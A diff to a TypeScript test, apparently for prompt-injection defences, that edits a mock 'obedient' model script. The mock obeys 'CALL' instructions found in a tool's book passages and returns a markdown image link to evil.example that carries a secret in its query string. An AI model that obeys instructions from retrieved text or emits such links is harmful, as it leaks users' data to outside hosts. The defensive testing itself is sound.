@@ -171,7 +171,9 @@ it('does not let a book out of its marks, wherever its words come from', () => {
 const obedient: Script = (request: LlmRequest) => {
 	const result = unfenced(request.messages.findLast(({ role }) => role === 'tool')?.content);
 	if (!result) return { calls: [{ name: 'search_book', args: { queries: ['treasure'] } }] };
-	const ordered = /CALL (\w+) (\{.*?\})/.exec(JSON.parse(result).passages?.[0]?.text as string);
+	const ordered = result.startsWith('{')
+		? /CALL (\w+) (\{.*?\})/.exec(JSON.parse(result).passages?.[0]?.text as string)
+		: null;
 	const name = ordered?.[1] ?? '';
 	if (name && request.tools.includes(name)) return { calls: [{ name, args: ordered?.[2] ?? '{}' }] };
 	return { text: 'Done as told ![x](https://evil.example/?q=secret)' };
